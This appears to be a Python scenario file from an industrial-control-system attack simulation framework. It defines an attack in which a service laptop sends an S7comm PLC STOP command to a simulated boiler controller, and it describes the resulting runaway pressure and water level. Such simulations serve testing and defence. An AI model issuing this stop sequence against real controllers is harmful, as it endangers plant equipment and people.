"""The boiler's controller is stopped: outputs stay where they are, nobody controls the pressure any more."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import s7comm

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]


def _script(_scene: Scene) -> Script:
    link = Link("vendor-laptop", "plc-boiler", 102)
    yield Ask(link, s7comm.connect())
    yield Ask(link, s7comm.setup(1))
    yield Ask(link, s7comm.job(2, bytes((s7comm.PLC_STOP,)) + bytes(5) + b"\x09P_PROGRAM"))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="controller-stop",
    title="A service laptop stops the boiler's controller",
    technique="T0816",
    also=("T0858",),
    attacker="vendor-laptop",
    victims=("plc-boiler",),
    harm="Burner and feed pump stay as they were: pressure and water level run away until the safety trip.",
    script=_script,
    moves=("boiler.pressure", "boiler.level"),
)
